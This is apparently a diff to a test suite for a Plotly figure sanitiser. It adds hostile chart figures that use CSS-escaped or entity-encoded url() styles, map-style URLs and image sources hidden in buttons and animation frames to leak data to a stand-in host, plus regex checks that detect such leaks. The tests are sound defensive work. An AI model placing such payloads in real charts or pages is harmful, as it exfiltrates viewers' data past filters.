@@ -3,7 +3,8 @@ import allowList from './plotlyAllowList.json';
 import { existsSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
-import { inertText, isInlineImage, sanitiseFigure, TOPOJSON_DIR } from './figureSafety';
+import { inertText, isInlineImage, OFFLINE_MAP_STYLE, sanitiseFigure, TOPOJSON_DIR } from './figureSafety';
+import { cssLoads, safeStyle } from './cssTokens';
 
 const EVIL = 'http://127.0.0.1:9/leak?d=secret';
 const PIXEL = 'data:image/png;base64,iVBORw0KGgo=';
@@ -62,6 +63,43 @@ const HOSTILE: Record<string, Fig> = {
   'unknown trace type': { data: [{ type: 'webpage', src: EVIL }] },
   'scattermap text needs glyphs from a font server': { data: [{ type: 'scattermap', lat: [1], lon: [2], mode: 'markers+text', text: ['x'], cluster: { enabled: true } }] },
   'map layer symbol text needs glyphs': { data: [], layout: { map: { layers: [{ type: 'symbol', source: { type: 'FeatureCollection', features: [] }, symbol: { text: 'x' } }] } } },
+  // Issue #31: CSS escapes passed a pattern; styles are now rebuilt from CSS tokens.
+  'CSS-escaped url() in an annotation span style': {
+    data: [],
+    layout: { annotations: [{ text: `<span style="cursor:u\\72l(${EVIL}),auto;background-image:u\\rl(${EVIL})">x</span>`, x: 0, y: 0 }] },
+  },
+  'entity-encoded url() in a title style': { data: [], layout: { title: { text: `<b style="background:&#117;rl(${EVIL})">t</b>` } } },
+  'escaped url() in a hovertemplate, a tick label and a table cell': {
+    data: [
+      { type: 'bar', x: ['a'], y: [1], hovertemplate: `<span style="background:\\75 rl(${EVIL})">%{x}</span>` },
+      { type: 'table', header: { values: [`<i style="cursor:u\\72l(${EVIL}),auto">h</i>`] }, cells: { values: [[`<b style="background-image:u\\rl(${EVIL})">c</b>`]] } },
+    ],
+    layout: { xaxis: { ticktext: [`<span style="cursor:u\\72l(${EVIL}),auto">t</span>`], tickvals: [0] }, legend: { title: { text: `<sup style="mask:u\\72l(${EVIL})">l</sup>` } } },
+  },
+  'escaped url() as a bare colour': { data: [{ type: 'bar', x: [1], y: [1], marker: { color: `u\\72l(${EVIL})` } }] },
+  'animate button carrying a frame with a map style URL': {
+    data: [{ type: 'scattermap', lat: [1], lon: [2] }],
+    layout: { map: { style: 'white-bg' }, updatemenus: [{ buttons: [{ method: 'animate', label: 'go', args: [[{ name: 'x', layout: { map: { style: `${EVIL}/style.json?d=ROWS` } } }], { frame: { duration: 0 } }] }] }] },
+  },
+  'slider step animating to frames with images and a new map': {
+    data: [{ type: 'scatter', x: [1], y: [1] }],
+    layout: { sliders: [{ steps: [{ method: 'animate', label: 's', args: [{ name: 'f', data: [{ type: 'scattermap', subplot: 'map4', lat: [1], lon: [1] }], layout: { images: [{ source: EVIL }], map4: { style: EVIL } } }] }] }] },
+  },
+  'restyle button applying a geojson URL and an image source': {
+    data: [{ type: 'choropleth', locations: ['a'], z: [1] }],
+    layout: { updatemenus: [{ buttons: [{ method: 'restyle', args: ['geojson', EVIL] }, { method: 'restyle', args: [{ geojson: [EVIL], 'marker.line.color': `u\\72l(${EVIL})` }, [0]] }] }] },
+  },
+  'update button that relayouts an image and a map style': {
+    data: [{ type: 'scattermap', lat: [1], lon: [1] }],
+    layout: { updatemenus: [{ buttons: [{ method: 'update', args: [{ type: 'image', source: EVIL }, { 'images[0].source': EVIL, 'map.style': EVIL, 'title.text': `<span style="cursor:u\\72l(${EVIL}),auto">t</span>` }] }] }] },
+  },
+  'relayout button resetting the map style to the default (a third party)': { data: [{ type: 'scattermap', lat: [1], lon: [1] }], layout: { updatemenus: [{ buttons: [{ method: 'relayout', args: ['map.style', null] }] }] } },
+  'nested animate inside a carried frame': {
+    data: [],
+    layout: { updatemenus: [{ buttons: [{ method: 'animate', args: [[{ name: 'a', layout: { updatemenus: [{ buttons: [{ method: 'animate', args: [[{ layout: { images: [{ source: EVIL }] } }]] }] }] } }]] }] }] },
+  },
+  'map marker symbols fetched as icons': { data: [{ type: 'scattermap', lat: [1, 2], lon: [1, 2], marker: { symbol: ['circle', 'airport'] } }], layout: { map: {} } },
+  'map layer symbol icons': { data: [], layout: { map: { layers: [{ type: 'symbol', source: { type: 'FeatureCollection', features: [] }, symbol: { icon: 'marker' } }] } } },
   'layout meta used by a template': { data: [{ type: 'bar', x: [1], y: [1], texttemplate: '%{meta}' }], layout: { meta: [`<a href="${EVIL}">m</a>`] } },
 };
 
@@ -75,7 +113,11 @@ function leaks(fig: unknown): string[] {
     if (typeof v === 'string') {
       if (/127\.0\.0\.1|\/\/|pk\.secret/.test(v) && !/^data:image\/png;base64,/.test(v) && !TEXT.test(path)) out.push(`${path}: ${v}`);
       if (/<\s*\/?\s*a(?![^\s>])/i.test(v)) out.push(`${path}: link ${v}`);
-      if (/url\s*\(/i.test(v)) out.push(`${path}: css ${v}`);
+      if (/url\s*\(/i.test(v) || cssLoads(v)) out.push(`${path}: css ${v}`);
+      for (const m of v.matchAll(/style\s*=\s*("([^"]*)"|'([^']*)')/gi)) {
+        const style = m[2] ?? m[3] ?? '';
+        if (safeStyle(style) !== style) out.push(`${path}: style ${style}`);
+      }
     } else if (Array.isArray(v)) v.forEach((x, i) => walk(x, `${path}[${i}]`));
     else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) walk(x, `${path}.${k}`);
   };
@@ -121,11 +163,30 @@ describe('sanitiseFigure against hostile figures', () => {
     });
   });
 
-  it('turns restyle/relayout buttons into no-ops and keeps animation buttons', () => {
+  it('holds buttons to the figure rules: URLs out, the offline map style in, animation kept', () => {
     const fig = sanitiseFigure(HOSTILE['update menu that relayouts to a URL'] as Fig);
-    expect(fig.layout?.updatemenus).toEqual([{ buttons: [{ method: 'skip', label: 'go' }, { method: 'skip' }] }]);
+    expect(fig.layout?.updatemenus).toEqual([{ buttons: [{ method: 'relayout', label: 'go', args: [{ 'map.style': OFFLINE_MAP_STYLE }] }, { method: 'update', args: [{}, { images: [{}] }] }] }]);
     const anim = { data: [], layout: { updatemenus: [{ type: 'buttons', buttons: [{ method: 'animate', label: 'Play', args: [null, { frame: { duration: 500 } }] }] }] } };
     expect(sanitiseFigure(anim)).toEqual(anim);
+    const reset = sanitiseFigure(HOSTILE['relayout button resetting the map style to the default (a third party)'] as Fig);
+    expect(reset.layout?.updatemenus).toEqual([{ buttons: [{ method: 'relayout', args: ['map.style', OFFLINE_MAP_STYLE] }] }]);
+  });
+
+  it('draws every map trace on the offline style, named or not, in frames and buttons too', () => {
+    const bare = sanitiseFigure({ data: [{ type: 'scattermap', lat: [1], lon: [2] }, { type: 'densitymap', lat: [1], lon: [2], subplot: 'map2' }] } as Fig);
+    expect(bare.layout).toEqual({ map: { style: OFFLINE_MAP_STYLE }, map2: { style: OFFLINE_MAP_STYLE } });
+    const framed = sanitiseFigure({ data: [{ type: 'scatter', x: [1], y: [1] }], frames: [{ name: 'f', data: [{ type: 'choroplethmap', subplot: 'map3', locations: ['a'], z: [1] }] }] } as Fig);
+    expect(framed.layout?.map3).toEqual({ style: OFFLINE_MAP_STYLE });
+    const carried = sanitiseFigure(HOSTILE['slider step animating to frames with images and a new map'] as Fig);
+    expect(carried.layout?.map4).toEqual({ style: OFFLINE_MAP_STYLE });
+    const symbols = sanitiseFigure(HOSTILE['map marker symbols fetched as icons'] as Fig);
+    expect(symbols.data[0]?.marker).toEqual({});
+    expect(sanitiseFigure({ data: [{ type: 'scattermap', lat: [1], lon: [1], marker: { symbol: 'circle' } }] }).data[0]?.marker).toEqual({ symbol: 'circle' });
+  });
+
+  it('keeps what a restyle/update button changes when it changes it safely', () => {
+    const fig = sanitiseFigure(HOSTILE['update button that relayouts an image and a map style'] as Fig);
+    expect(fig.layout?.updatemenus).toEqual([{ buttons: [{ method: 'update', args: [{}, { 'map.style': OFFLINE_MAP_STYLE, 'title.text': '<span>t</span>' }] }] }]);
   });
 
   it('keeps the link text and shows a lone < as text', () => {
@@ -227,6 +288,37 @@ const ORDINARY: Record<string, Fig> = {
   scattergeo: { data: [{ type: 'scattergeo', lat: [48.8, 40.7], lon: [2.3, -74], mode: 'markers', text: ['Paris', 'New York'], marker: { size: 8 } }], layout: { geo: { scope: 'europe', showcountries: true } } },
   'map on the offline style': { data: [{ type: 'scattermap', lat: [48.8], lon: [2.3], mode: 'markers', marker: { size: 12, color: 'red' } }], layout: { map: { style: 'white-bg', center: { lat: 48.8, lon: 2.3 }, zoom: 4 } } },
   'image from inline data': { data: [{ type: 'image', source: PIXEL }], layout: { images: [{ source: PIXEL, xref: 'paper', yref: 'paper', x: 0, y: 1, sizex: 0.2, sizey: 0.2 }] } },
+  'styled title, annotation and hover with colours and bold': {
+    data: [{ type: 'bar', x: ['a'], y: [1], hovertemplate: '<span style="color:#1f77b4">%{x}</span>: <b>%{y}</b><extra></extra>' }],
+    layout: {
+      title: { text: '<span style="color:#d62728">Red</span> <b>bold</b> <i style="font-size:12px">small</i>' },
+      annotations: [{ text: '<span style="color:rgb(0, 128, 0);font-weight:bold">up</span> <u>3%</u>', x: 0, y: 1, showarrow: false }],
+    },
+  },
+  'update menu with restyle, relayout and update buttons': {
+    data: [
+      { type: 'scatter', x: [1, 2], y: [1, 2], name: 'a' },
+      { type: 'bar', x: [1, 2], y: [2, 1], name: 'b' },
+    ],
+    layout: {
+      updatemenus: [
+        {
+          buttons: [
+            { method: 'restyle', label: 'only a', args: ['visible', [true, false]] },
+            { method: 'restyle', label: 'red', args: [{ 'marker.color': 'red' }, [0]], args2: [{ 'marker.color': 'blue' }, [0]] },
+            { method: 'relayout', label: 'log', args: [{ 'yaxis.type': 'log', 'xaxis.range[1]': 5 }] },
+            { method: 'update', label: 'both', args: [{ visible: [true, true], x: [[1, 2, 3]] }, { 'title.text': '<b>Both</b>', 'annotations[1].text': 'second' }] },
+            { method: 'skip', label: 'nothing' },
+          ],
+        },
+      ],
+    },
+  },
+  'animation played by a button carrying its frames': {
+    data: [{ type: 'scatter', x: [1, 2], y: [1, 2] }],
+    layout: { updatemenus: [{ type: 'buttons', buttons: [{ method: 'animate', label: 'Play', args: [[{ name: 'f2', data: [{ y: [2, 1] }], layout: { title: { text: 'two' } } }, 'f3'], { mode: 'immediate', frame: { duration: 300, redraw: false }, transition: { duration: 200, easing: 'cubic-in-out' } }] }] }] },
+    frames: [{ name: 'f3', data: [{ y: [3, 3] }] }],
+  },
   'animation frames': {
     data: [{ type: 'bar', x: ['a'], y: [1] }],
     layout: { sliders: [{ steps: [{ method: 'animate', args: [['f1'], { mode: 'immediate' }], label: '1' }] }] },
